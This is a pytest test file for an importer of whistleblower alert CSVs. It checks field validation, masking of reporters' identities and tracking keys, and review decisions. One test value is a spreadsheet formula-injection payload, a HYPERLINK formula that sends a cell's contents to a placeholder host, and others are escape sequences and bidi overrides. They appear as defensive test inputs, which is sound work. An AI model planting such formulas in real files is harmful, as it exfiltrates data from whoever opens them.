from __future__ import annotations

import csv
from dataclasses import dataclass

import pytest

from alertadores.domain.catalogs import parse_catalogs
from alertadores.domain.identity import IDENTITY_MARK, TRACKING_KEY_MARK
from alertadores.errors import UserError
from alertadores.interop.alert_rows import Decision, Finding, Outcome, Row, apply_decision
from alertadores.interop.alerts_csv import read_alerts
from tests.interop.alerts import CATALOGS, GOOD, TODAY, WHO, codes, file, files, one, read
from tests.shared import samples


def sample(name: str) -> list[Row]:
    with samples(name).open("rb") as source:
        return list(read_alerts(source, today=TODAY, catalogs=CATALOGS, known_folios=()))


# -- the samples


def test_the_good_sample_is_accepted_whole() -> None:
    rows = sample("alertas.csv")
    assert [row.outcome for row in rows] == [Outcome.ACCEPTED] * 60
    assert sum(bool(row.identity and row.identity.name) for row in rows) == 38


def test_no_alert_of_the_good_sample_holds_a_name_or_contact_of_its_row() -> None:
    for row in sample("alertas.csv"):
        assert row.alert is not None
        told = row.alert.model_dump_json()
        if row.identity:
            assert not (row.identity.name and row.identity.name in told)
            assert not (row.identity.contact and row.identity.contact in told)


def test_the_tracking_key_of_the_good_sample_is_masked() -> None:
    rows = {row.alert.source_folio: row for row in sample("alertas.csv") if row.alert}
    row = rows["AL-2026-0056"]
    assert row.alert is not None
    assert TRACKING_KEY_MARK in row.alert.narrative
    assert "4821 9930" not in row.alert.model_dump_json()
    assert Finding("narrativa", "tracking-key-masked", "1") in row.findings


def test_the_good_sample_is_read_as_the_library_reads_it() -> None:
    with samples("alertas.csv").open(encoding="utf-8", newline="") as source:
        expected = list(csv.DictReader(source))
    for row, cell in zip(sample("alertas.csv"), expected, strict=True):
        alert = row.alert
        assert alert is not None
        assert alert.source_folio == cell["folio"]
        assert alert.received.isoformat() == cell["fecha_recepcion"]
        assert alert.conducts == tuple(cell["conductas"].split("|"))
        assert (alert.amount or "") == cell["monto_estimado"]
        assert alert.accused == tuple(filter(None, cell["personas_senaladas"].split("|")))
        assert alert.asks_protection == (cell["solicita_proteccion"] == "SI")
        changed = {code for _, code in codes(row)} - {"shared-key", "invisible-characters"}
        assert changed or alert.narrative == cell["narrativa"]


def test_each_bad_row_gets_the_verdict_that_the_samples_expect() -> None:
    rows = sample("alertas_malas.csv")
    verdicts = [
        (row.record, row.line, row.outcome.value, finding.field, finding.code)
        for row in rows
        for finding in row.findings
        if finding.code != "column-ignored"
    ]
    assert verdicts == [
        (1, 2, "refused", "conductas", "unknown-key"),
        (2, 3, "refused", "hechos_desde", "not-a-date"),
        (3, 4, "refused", "fecha_recepcion", "future-date"),
        (4, 5, "refused", "narrativa", "required"),
        (5, 6, "refused", "", "not-utf8"),
        (6, 7, "waits", "narrativa", "long-narrative"),
        (7, 8, "accepted", "programa_o_contrato", "formula"),
        (8, 9, "refused", "folio", "folio-repeated"),
        (9, 10, "refused", "", "cell-count"),
        (10, 11, "refused", "", "cell-count"),
        (11, 12, "refused", "entidad_federativa", "unknown-key"),
        (12, 13, "refused", "hechos_hasta", "period-inverted"),
        (13, 14, "refused", "monto_estimado", "not-an-amount"),
        (14, 15, "waits", "modalidad_identidad", "anonymous-with-identity"),
        (15, 16, "refused", "", "unclosed-quote"),
    ]
    assert len(rows) == 15


def test_the_formula_is_plain_text() -> None:
    alert = sample("alertas_malas.csv")[6].alert
    assert alert is not None
    assert alert.programme == '=HYPERLINK("https://sitio.example/?d="&A2,"ver contrato")'


# -- decisions


@dataclass(frozen=True)
class Decided:
    """What a decision makes of a bad row of the sample."""

    record: int
    decision: Decision
    outcome: Outcome
    mode: str | None
    named: bool


@pytest.mark.parametrize(
    "case",
    [
        Decided(6, "keep", Outcome.ACCEPTED, "ANONIMA", named=False),
        Decided(6, "drop", Outcome.REFUSED, None, named=False),
        Decided(14, "keep", Outcome.ACCEPTED, "ANONIMA", named=False),
        Decided(14, "seal", Outcome.ACCEPTED, "CONFIDENCIAL", named=True),
        Decided(14, "drop", Outcome.REFUSED, None, named=False),
    ],
    ids=str,
)
def test_a_person_decides_on_a_waiting_row(case: Decided) -> None:
    row = apply_decision(sample("alertas_malas.csv")[case.record - 1], case.decision)
    assert row.outcome is case.outcome
    assert row.question is None
    assert (row.alert.identity if row.alert else None) == case.mode
    assert bool(row.identity and row.identity.name) == case.named
    assert row.findings[-1].code == f"decided-{case.decision}"


def test_one_decision_answers_both_questions_of_a_row() -> None:
    row = one(**WHO, narrativa="a" * 1_100_000)
    assert [f.code for f in row.findings] == ["anonymous-with-identity", "long-narrative"]
    assert row.question == "anonymous-with-identity"
    sealed = apply_decision(row, "seal")
    assert sealed.outcome is Outcome.ACCEPTED
    assert sealed.identity is not None


def test_only_an_anonymous_row_with_identity_can_be_sealed() -> None:
    with pytest.raises(UserError, match="nothing-to-seal"):
        apply_decision(one(narrativa="a" * 1_100_000), "seal")


@pytest.mark.parametrize("row", [one(), one(folio="")], ids=["accepted", "refused"])
def test_a_row_that_does_not_wait_takes_no_decision(row: Row) -> None:
    with pytest.raises(UserError, match="nothing-to-decide"):
        apply_decision(row, "keep")


def test_the_name_is_gone_from_the_text_whatever_is_decided() -> None:
    row = one(**WHO, narrativa="Soy Mirna Jarquín, llamen al 9515550142.")
    decisions: tuple[Decision, ...] = ("keep", "seal")
    for decision in decisions:
        alert = apply_decision(row, decision).alert
        assert alert is not None
        assert alert.narrative == f"Soy {IDENTITY_MARK}, llamen al {IDENTITY_MARK}."


# -- identity


def test_a_row_shows_neither_alert_nor_identity_when_printed() -> None:
    row = one(**WHO, modalidad_identidad="CONFIDENCIAL")
    assert row.identity is not None
    assert "Mirna" not in repr(row)
    assert "ventanilla" not in repr(row)


def test_every_text_of_a_row_is_searched_for_the_person() -> None:
    texts = {
        "ente_publico", "programa_o_contrato", "elementos_prueba", "personas_senaladas",
        "denuncio_antes_ante", "denuncio_antes_folio", "riesgos_advertidos", "genero",
        "rango_edad", "lengua", "narrativa",
    }  # fmt: skip
    told = dict.fromkeys(texts, "de Mirna Jarquín con 4821 9930 1175 2046; y Cervantes.")
    row = one(**(WHO | told), modalidad_identidad="IDENTIFICADA")
    assert row.alert is not None
    shown = row.alert.model_dump_json()
    assert "Jarquín" not in shown
    assert "9930" not in shown
    for code in ("identity-masked", "tracking-key-masked", "identity-possible"):
        assert {f.field for f in row.findings if f.code == code} == texts


def test_an_anonymous_alert_may_tell_a_safe_channel() -> None:
    row = one(medio_contacto_seguro="Plataforma, con Tor")
    assert row.outcome is Outcome.ACCEPTED
    assert row.identity is not None
    assert row.identity.safe_channel == "Plataforma, con Tor"


def test_a_confidential_alert_without_identity_is_noted() -> None:
    row = one(modalidad_identidad="CONFIDENCIAL")
    assert codes(row) == [("modalidad_identidad", "identity-missing")]
    assert row.identity is None


# -- single fields


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        pytest.param("folio", "", "required", id="no folio"),
        pytest.param("folio", "AL 1", "not-a-folio", id="a folio with a space"),
        pytest.param("folio", "=AL-1", "not-a-folio", id="a folio that is a formula"),
        pytest.param("folio", "A" * 65, "not-a-folio", id="a folio without end"),
        pytest.param("folio", "4821993011752046", "secret-folio", id="a key as folio"),
        pytest.param("folio", "AL-1\n", "not-a-folio", id="a folio with a line end"),
        pytest.param("fecha_recepcion", "", "required", id="no day of reception"),
        pytest.param("fecha_recepcion", "2026-11-23", "future-date", id="tomorrow"),
        pytest.param("fecha_recepcion", "2026-1-2", "not-a-date", id="a short date"),
        pytest.param("fecha_recepcion", "20260102", "not-a-date", id="a basic date"),
        pytest.param("fecha_recepcion", "2026-W01-1", "not-a-date", id="a week date"),
        pytest.param("fecha_recepcion", "2026-02-29", "not-a-date", id="no leap year"),
        pytest.param("fecha_recepcion", "٢٠٢٦-٠١-٠٢", "not-a-date", id="Arabic digits"),
        pytest.param("fecha_recepcion", "0000-01-01", "not-a-date", id="the year zero"),
        pytest.param("canal", "", "required", id="no channel"),
        pytest.param("canal", "plataforma", "unknown-key", id="a key in small letters"),
        pytest.param("canal", "PLATAFORMA ", "unknown-key", id="a key with a space"),
        pytest.param("canal", "P" * 100_000, "unknown-key", id="a key without end"),
        pytest.param("entidad_federativa", "9", "unknown-key", id="a state as a number"),
        pytest.param("entidad_federativa", "00", "unknown-key", id="state 00"),
        pytest.param("entidad_federativa", "٠٩", "unknown-key", id="a state in Arabic digits"),
        pytest.param("conductas", "COHECHO;PECULADO", "unknown-key", id="another separator"),
        pytest.param(
            "conductas", "|".join(f"C{n}" for n in range(17)), "too-many-items", id="17 conducts"
        ),
        pytest.param("hechos_hasta", "2026-08-31", "period-inverted", id="ends before"),
        pytest.param("hechos_continuan", "sí", "not-yes-no", id="another word for yes"),
        pytest.param("monto_estimado", "-1", "not-an-amount", id="less than nothing"),
        pytest.param("monto_estimado", "1e9", "not-an-amount", id="an exponent"),
        pytest.param("monto_estimado", "1,000.00", "not-an-amount", id="thousands"),
        pytest.param("monto_estimado", "1.234", "not-an-amount", id="a third decimal"),
        pytest.param("monto_estimado", "NaN", "not-an-amount", id="not a number"),
        pytest.param("monto_estimado", "1" * 16, "not-an-amount", id="more than there is"),
        pytest.param("monto_estimado", "１２", "not-an-amount", id="fullwidth digits"),
        pytest.param("moneda", "pesos", "not-a-currency", id="a currency by name"),
        pytest.param("narrativa", "", "required", id="no narrative"),
        pytest.param("narrativa", " \u00a0\u200b\t\n", "required", id="nothing to see"),
        pytest.param("narrativa", "a\x00b", "control-character", id="a zero byte"),
        pytest.param("narrativa", "a\x1b[31m", "control-character", id="an escape sequence"),
        pytest.param("narrativa", "a\u0085b", "control-character", id="a C1 control"),
        pytest.param("narrativa", "a" * 3_000_001, "too-long", id="more than an entry holds"),
        pytest.param("narrativa", "ñ" * 1_500_001, "too-long", id="the same in fewer letters"),
        pytest.param("ente_publico", "a\nb", "control-character", id="two lines as one"),
        pytest.param("ente_publico", "a" * 301, "too-long", id="a long name"),
        pytest.param("elementos_prueba", "|".join("x" * 301 for _ in "ab"), "too-long", id="item"),
        pytest.param(
            "elementos_prueba", "|".join(map(str, range(33))), "too-many-items", id="33 items"
        ),
        pytest.param("riesgos_advertidos", "a" * 20_001, "too-long", id="long risks"),
        pytest.param("identidad_nombre", "a\tb", "control-character", id="a tab in a name"),
        pytest.param("identidad_nombre", "a" * 301, "too-long", id="a name without end"),
    ],
)
def test_a_value_that_cannot_be_is_refused_by_name(column: str, value: str, code: str) -> None:
    row = one(**{column: value})
    assert row.outcome is Outcome.REFUSED
    assert (column, code) in codes(row)
    assert row.alert is None
    assert row.identity is None
    shown = "".join(finding.detail for finding in row.findings)
    assert len(value) < 4 or value not in shown


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        pytest.param("narrativa", "a\r\nb\rc", "line-ends", id="line ends"),
        pytest.param("narrativa", "cafe\u0301", "letters-composed", id="decomposed accents"),
        pytest.param("narrativa", "a\u00adb\u200bc", "invisible-characters", id="soft hyphen"),
        pytest.param("narrativa", "a\u202eb\u202c", "bidi-controls", id="a bidi override"),
        pytest.param("programa_o_contrato", "=1+1", "formula", id="a formula"),
        pytest.param("elementos_prueba", "a|| b |a", "list-tidied", id="an untidy list"),
        pytest.param("conductas", "COHECHO|COHECHO", "list-tidied", id="a conduct twice"),
        pytest.param("conductas", "TRAFICO_INFLUENCIAS", "shared-key", id="a key of two conducts"),
        pytest.param("moneda", "", "amount-without-currency", id="an amount of what"),
        pytest.param("hechos_hasta", "2026-10-05", "after-reception", id="facts to come"),
    ],
)
def test_what_is_odd_is_taken_and_noted(column: str, value: str, code: str) -> None:
    row = one(**{column: value})
    assert row.outcome is Outcome.ACCEPTED
    assert codes(row) == [(column, code)]


def test_what_is_changed_and_what_is_kept() -> None:
    text = "cafe\u0301\r\n\u202ea\u202c\u00ad\u200b\t «b»\rc "
    alert = one(narrativa=text).alert
    assert alert is not None
    assert alert.narrative == "café\n\u202ea\u202c\u00ad\u200b\t «b»\nc "
    alert = one(elementos_prueba="a|| b |a").alert
    assert alert is not None
    assert alert.evidence == ("a", "b")


def test_a_conduct_counts_from_the_day_it_is_in_force() -> None:
    key = "OTRO:INJERENCIA_SINDICAL"
    assert one(conductas=key).outcome is Outcome.ACCEPTED
    early = one(conductas=f"COHECHO|{key}", fecha_recepcion="2025-12-14")
    assert Finding("conductas", "key-not-in-force", "2") in early.findings


def test_all_defects_of_a_row_are_told_at_once_in_the_order_of_the_columns() -> None:
    row = one(canal="X", hechos_desde="ayer", monto_estimado="mucho", folio="")
    assert codes(row) == [
        ("folio", "required"),
        ("canal", "unknown-key"),
        ("hechos_desde", "not-a-date"),
        ("monto_estimado", "not-an-amount"),
    ]


def test_a_folio_counts_once_in_the_file_and_in_the_register() -> None:
    rows = read(file(GOOD, GOOD, GOOD | {"folio": "AL-2"}), known=("AL-2",))
    assert [row.outcome.value for row in rows] == ["accepted", "refused", "refused"]


def test_two_rows_without_folio_are_not_the_same() -> None:
    rows = read(file(GOOD | {"folio": ""}, GOOD | {"folio": ""}))
    assert [codes(row) for row in rows] == [[("folio", "required")]] * 2


def test_a_catalogue_that_the_register_does_not_know_ends_in_a_refusal() -> None:
    edited = files()
    edited["identity_modes"] = edited["identity_modes"].replace(b'"ANONIMA"', b'"SECRETA"')
    (row,) = read(file(GOOD | {"modalidad_identidad": "SECRETA"}), catalogs=parse_catalogs(edited))
    assert codes(row) == [("", "not-recordable")]
